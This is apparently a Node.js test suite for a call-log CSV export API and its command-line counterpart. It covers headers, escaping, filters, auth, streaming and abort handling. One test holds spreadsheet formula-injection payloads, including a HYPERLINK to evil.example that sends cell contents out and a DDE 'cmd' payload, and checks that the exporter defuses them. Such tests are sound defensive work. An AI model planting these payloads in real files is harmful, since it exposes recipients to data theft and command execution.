// GET /api/calls.csv and mainline export, read back by a CSV library.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import http2 from 'node:http2';
import https from 'node:https';
import { after, before, test } from 'node:test';
import tls from 'node:tls';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import pg from 'pg';
import { fillCalls } from './support/calls.js';
import { until } from './support/door.js';
import { childrenOf } from './support/family.js';
import { freezeDatabase } from './support/freeze.js';
import { Stack } from './support/stack.js';

const LINE = '+15550100002'; // of the rows that are written by hand
const COLUMNS = [
  'sid',
  'started_at',
  'line',
  'from',
  'caller_name',
  'caller_city',
  'caller_region',
  'caller_country',
  'outcome',
  'reason',
  'duration_s',
  'talk_s',
  'forwarded_to',
  'menu_key',
  'voicemail_s',
  'transcript',
  'heard_at',
  'done_at',
  'note',
  'status',
];
const MANY = 60_000;

/** @type {Stack} */
let stack;
before(async () => {
  stack = await Stack.start({}, { jobs: false });
});
after(() => stack.close());

const ask = (query = '', options) => stack.api.request(`/api/calls.csv${query}`, options);

async function rows(query = '') {
  const { status, bytes } = await ask(query);
  assert.equal(status, 200, bytes.toString());
  return parse(bytes, { bom: true, columns: true });
}

const sidOf = (i) => `CA${String(i).padStart(32, '0')}`;

/** Calls of LINE, all others gone: one a row of these columns. */
async function put(list) {
  const client = new pg.Client({ connectionString: stack.settings.DATABASE_URL });
  await client.connect();
  await client.query('DELETE FROM calls');
  for (const [i, row] of list.entries()) {
    const names = Object.keys(row);
    await client.query(
      `INSERT INTO calls (line, sid, first_seen_at, first_received_at, updated_at, ${names.join(', ')})
      SELECT $1, $2, at, at, at, ${names.map((_, k) => `$${k + 4}`).join(', ')}
      FROM (SELECT timestamptz '2026-11-22T09:00:00Z' - $3 * interval '1 minute' AS at) t`,
      [LINE, sidOf(i), i, ...Object.values(row)],
    );
  }
  await client.end();
}

test('each cell is what the API says of the call, or empty', async () => {
  await put([
    {
      status_rank: 125,
      from_number: '+15550123456',
      caller_name: 'Doe, Jane "JD"',
      caller_city: 'Zürich',
      caller_country: 'CH',
      place: '(3,1,recorded)',
      why: '(3,1,no_answer)',
      menu_key: '(2,1,2)',
      forwarded: '(3,0,Reception)',
      duration_callback_s: 61,
      started_callback: '2026-11-22T08:59:30Z',
      recording: `(RE${'a'.repeat(32)},2,5,t)`,
      length: `(RE${'a'.repeat(32)},2,34)`,
      transcript: 'Hello.\nIt is me.',
      heard_at: '2026-11-22T10:00:00Z',
      done_at: '2026-11-22T11:00:00.5Z',
      note: 'called back, 日本',
    },
    { status_rank: 14 },
    // Too short to count as a message: of it nothing is told.
    {
      status_rank: 125,
      recording: `(RE${'b'.repeat(32)},2,5,f)`,
      transcript: 'x',
      heard_at: 'now',
    },
  ]);
  const { status, headers, bytes } = await ask();
  assert.equal(status, 200);
  assert.equal(headers['content-type'], 'text/csv; charset=utf-8; header=present');
  assert.match(
    headers['content-disposition'],
    /^attachment; filename="calls-\d{4}-\d\d-\d\d\.csv"$/,
  );
  assert.equal(headers['cache-control'], 'private, no-store');
  assert.equal(Number(headers['content-length']), bytes.length);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'so that Excel reads UTF-8');
  const [names, first, second, third, ...more] = parse(bytes, { bom: true });
  assert.deepEqual(names, COLUMNS);
  assert.deepEqual(more, []);
  const call = await stack.api.call(sidOf(0));
  const { voicemail } = call;
  const spoken = {
    ...call,
    voicemail_s: voicemail.duration_s,
    transcript: voicemail.transcript,
    heard_at: voicemail.heard_at,
  };
  assert.deepEqual(
    first,
    COLUMNS.map((name) => String(spoken[name] ?? '')),
  );
  assert.deepEqual(
    [first[4], first[15], first[16], first[17]],
    ['Doe, Jane "JD"', 'Hello.\nIt is me.', '2026-11-22T10:00:00.000Z', '2026-11-22T11:00:00.500Z'],
  );
  assert.deepEqual(second.filter(Boolean), [sidOf(1), second[1], LINE, 'ringing']);
  assert.deepEqual([third[14], third[15], third[16]], ['', '', '']);
  const lines = bytes.toString().split('\r\n');
  assert.equal(lines.length, 5, 'CR LF ends each row, and only rows');
  assert.equal(lines[4], '');
});

test('what a spreadsheet would run begins with an apostrophe; numbers stay', async () => {
  const nasty = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '　=1',
    '  =1',
  ];
  const harmless = ['+15550100009', 'a=b', "O'Neil", 'x-y', '1-800-FLOWERS'];
  await put([...nasty, ...harmless].map((text) => ({ note: text, caller_name: text })));
  for (const [i, row] of (await rows()).entries()) {
    const text = [...nasty, ...harmless][i];
    assert.equal(row.caller_name, row.note);
    if (i < nasty.length) assert.match(row.note, /^'/, text);
    assert.equal(row.note.replaceAll("'", ''), text.replaceAll("'", ''), text);
    if (i >= nasty.length) assert.equal(row.note, text);
  }
  await put([{ note: 'call;=1+1;"=2\n@3' }]);
  assert.equal((await rows())[0].note, `call;'=1+1;'"=2\n'@3`, 'whatever separates its cells');
});

test('any text comes back, but for the apostrophes', async () => {
  const texts = fc.sample(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({ unit: fc.constantFrom(...'=+-@;,"\'\r\n\t a＝'), maxLength: 12 }),
    ),
    { numRuns: 400, seed: Number(process.env.SEED ?? Date.now() % 1e9) },
  );
  const fit = texts.map((text) => text.replaceAll('\0', '').toWellFormed());
  await put(fit.map((text) => ({ note: text })));
  const got = await rows();
  assert.equal(got.length, fit.length);
  for (const [i, { note }] of got.entries()) {
    assert.equal(note.replaceAll("'", ''), fit[i].replaceAll("'", ''), JSON.stringify(fit[i]));
    for (const part of note.split(/[;\t\r\n]/u))
      if (!/^\+[1-9]\d{6,14}$/.test(note)) assert.doesNotMatch(part, /^[\s"]*[=+\-@＝＋－＠]/u);
  }
});

test('the filters are those of the list, in its order', async () => {
  await stack.sql('DELETE FROM calls');
  await fillCalls(stack, 900);
  await fillCalls(stack, 100, LINE); // the same SIDs at another line
  const newest = await stack.api.get('/api/calls?limit=200');
  const at = newest.calls[150].started_at;
  for (const query of [
    '',
    `?line=${encodeURIComponent(LINE)}`,
    '?outcome=voicemail,answered',
    '?status=completed&has_voicemail=true&heard=false',
    `?since=${at}`,
    `?until=${at}&outcome=abandoned`,
    '?q=CALLER%2077',
    '?outcome=blocked',
  ]) {
    const wanted = [];
    let page = await stack.api.get(`/api/calls${query === '' ? '?' : `${query}&`}limit=200`);
    for (;;) {
      wanted.push(...page.calls.map(({ sid, line }) => `${line} ${sid}`));
      if (page.next === null) break;
      page = await stack.api.get(`/api/calls?limit=200&after=${page.next}`);
    }
    const got = (await rows(query)).map(({ sid, line }) => `${line} ${sid}`);
    assert.deepEqual(got, wanted, query);
  }
});

test('what is no parameter, and who may not', async () => {
  for (const name of ['limit', 'after']) {
    const { detail } = await stack.api.refused(`/api/calls.csv?${name}=1`, name);
    assert.match(detail, /all calls/);
  }
  await stack.api.refused('/api/calls.csv?outcome=nice', 'outcome');
  await stack.api.refused('/api/calls.csv?nonsense=1', 'nonsense');
  assert.equal((await ask('', { token: null })).status, 401);
  const { out } = await stack.mainline(['token', 'add', '--name', 'ear', '--scope', 'audio']);
  assert.equal((await ask('', { token: out.trim() })).status, 403);
  assert.equal((await ask('', { method: 'POST', described: false })).status, 405);
});

/** The answer as it comes over a socket. */
async function over(version) {
  const socket = tls.connect({
    host: '127.0.0.1',
    port: stack.httpsPort,
    servername: 'localhost',
    ca: stack.ca,
  });
  const { host } = new URL(stack.publicUrl);
  socket.write(
    `GET /api/calls.csv ${version}\r\nHost: ${host}\r\nConnection: close\r\n` +
      `Authorization: Bearer ${stack.token}\r\n\r\n`,
  );
  let text = '';
  for await (const chunk of socket) text += chunk;
  return text;
}

test('HEAD, and HTTP/1.0, which could not tell a cut', async () => {
  const head = await ask('', { method: 'HEAD' });
  assert.equal(head.status, 200);
  assert.equal(head.bytes.length, 0);
  assert.match(head.headers['content-type'], /^text\/csv/);
  assert.match(await over('HTTP/1.1'), /^HTTP\/1\.1 200 /);
  assert.match(await over('HTTP/1.0'), /^HTTP\/1\.1 505 /);
});

/** Asks and calls back with the response as it begins; for what is not read to its end. */
function begin(query = '') {
  return new Promise((resolve, reject) => {
    const request = https.request(
      {
        host: '127.0.0.1',
        port: stack.httpsPort,
        servername: 'localhost',
        ca: stack.ca,
        agent: false,
        path: `/api/calls.csv${query}`,
        headers: { Host: new URL(stack.publicUrl).host, Authorization: `Bearer ${stack.token}` },
      },
      resolve,
    );
    request.on('error', reject);
    request.end();
  });
}

async function ended(response) {
  let bytes = 0;
  for await (const chunk of response) bytes += chunk.length;
  return bytes;
}

test('a long one is streamed, one at a time', async () => {
  await stack.sql('DELETE FROM calls');
  await fillCalls(stack, MANY);
  const response = await begin();
  assert.equal(response.statusCode, 200);
  assert.equal(response.headers['content-length'], undefined);
  const other = await ask();
  assert.deepEqual([other.status, other.json?.code], [429, 'export_running']);
  assert.ok(Number(other.headers['retry-after']) > 0);
  // What fits into one piece is no burden.
  assert.equal((await rows('?outcome=blocked')).length, 0);
  const chunks = [];
  for await (const chunk of response) chunks.push(chunk);
  const list = parse(Buffer.concat(chunks), { bom: true, columns: true });
  assert.equal(list.length, MANY);
  assert.equal(new Set(list.map(({ sid }) => sid)).size, MANY);
  const times = list.map(({ started_at: at }) => at);
  assert.deepEqual(times, times.toSorted().reverse());
  assert.equal((await rows()).length, MANY, 'and then the next');
});

const isCut = (response) => assert.rejects(ended(response), /aborted|ECONNRESET/);

/** Exports are let in again, and go to their end. */
const isFree = () =>
  until(async () => {
    const { status, bytes } = await ask('?outcome=answered');
    if (status !== 200) return assert.ok([429, 503].includes(status));
    assert.equal(parse(bytes, { bom: true, columns: true }).length, MANY / 3);
    return true;
  });

test('a database that goes away in the middle: the client sees that it is not all', async () => {
  const said = () =>
    stack.log().filter(({ ev, route }) => ev === 'request' && route === '/api/calls.csv');
  const earlier = said().length;
  const response = await begin();
  const thaw = freezeDatabase(stack);
  try {
    await isCut(response);
  } finally {
    thaw();
  }
  assert.equal(response.complete, false);
  const { detail, err } = await until(() => said()[earlier]); // written after the cut
  assert.match(detail, /cut off/);
  assert.equal(err, 'busy');
  await isFree();
});

test('over HTTP/2 the stream is reset', async () => {
  const session = http2.connect(`https://localhost:${stack.httpsPort}`, {
    ca: stack.ca,
    lookup: (name, options, done) => done(null, [{ address: '127.0.0.1', family: 4 }]),
  });
  try {
    const stream = session.request({
      ':path': '/api/calls.csv',
      ':authority': new URL(stack.publicUrl).host,
      authorization: `Bearer ${stack.token}`,
    });
    const [headers] = await once(stream, 'response');
    assert.equal(headers[':status'], 200);
    for (const pid of childrenOf(stack.servePid, 'ml-api')) process.kill(pid, 'SIGKILL');
    await assert.rejects(ended(stream), /NGHTTP2_INTERNAL_ERROR/);
  } finally {
    session.destroy();
  }
  await isFree();
});

test('a worker that dies in the middle: the same', async () => {
  const response = await begin();
  for (const pid of childrenOf(stack.servePid, 'ml-api')) process.kill(pid, 'SIGKILL');
  await isCut(response);
  await isFree();
});

test('a client that goes away ends it', async () => {
  (await begin()).destroy();
  await isFree();
});

test('mainline export prints the same', async () => {
  const { bytes } = await ask(`?outcome=answered`);
  const all = await stack.mainline(['export']);
  assert.deepEqual([all.code, all.err], [0, '']);
  assert.ok(all.out.startsWith('sid,started_at,'), 'without the mark');
  const list = parse(all.out, { columns: true });
  assert.equal(list.length, MANY);
  const answered = list.filter(({ outcome }) => outcome === 'answered');
  assert.deepEqual(answered, parse(bytes, { bom: true, columns: true }));
  const day = list[100].started_at;
  const since = await stack.mainline([
    'export',
    '--format',
    'csv',
    '--since',
    day,
    `--line=${stack.line}`,
  ]);
  assert.equal(parse(since.out, { columns: true }).length, 101);
  const none = await stack.mainline(['export', '--until', '2020-01-01']);
  assert.equal(none.out, `${COLUMNS.join(',')}\r\n`);
});

test('mainline export says what is wrong', async () => {
  for (const args of [
    ['--format', 'pdf'],
    ['--since', 'yesterday'],
    ['--until'],
    ['--nonsense'],
    ['more'],
  ]) {
    const { code, out, err } = await stack.mainline(['export', ...args]);
    assert.equal(code, 2, args.join(' '));
    assert.equal(out, '');
    assert.match(err, /^mainline export: /);
  }
  const away = await stack.mainline(['export'], {
    env: { DATABASE_URL: 'host=127.0.0.1 port=1 dbname=x' },
  });
  assert.equal(away.code, 1);
  assert.match(away.err, /cannot be reached/);
  const help = await stack.mainline(['export', '--help']);
  assert.equal(help.code, 0);
  assert.match(help.out, /^usage: mainline export/);
});
